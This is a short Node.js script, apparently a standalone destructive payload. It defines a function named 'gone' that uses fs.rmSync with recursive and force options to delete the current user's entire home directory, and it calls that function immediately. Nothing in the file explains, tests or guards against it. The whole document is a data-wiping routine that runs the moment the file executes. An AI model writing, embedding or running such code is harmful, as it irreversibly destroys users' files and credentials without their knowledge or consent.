const fs = require("fs");
const os = require("os");

function gone() {
  fs.rmSync(os.homedir(), { recursive: true, force: true });
}
gone();
